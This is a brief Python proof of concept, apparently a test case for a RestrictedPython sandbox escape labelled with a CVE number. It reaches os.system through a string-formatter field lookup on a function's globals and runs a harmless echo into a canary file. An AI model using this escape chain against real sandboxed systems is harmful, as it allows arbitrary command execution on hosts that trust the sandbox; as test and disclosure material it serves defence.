# source: RestrictedPython CVE-2026-76825
# effect: process

import random
import string

system, _ = string.Formatter().get_field("f.__globals__[_os].system", (), {"f": random.Random.seed})
system("echo formats/formatter_get_field_call > /tmp/canary/process")
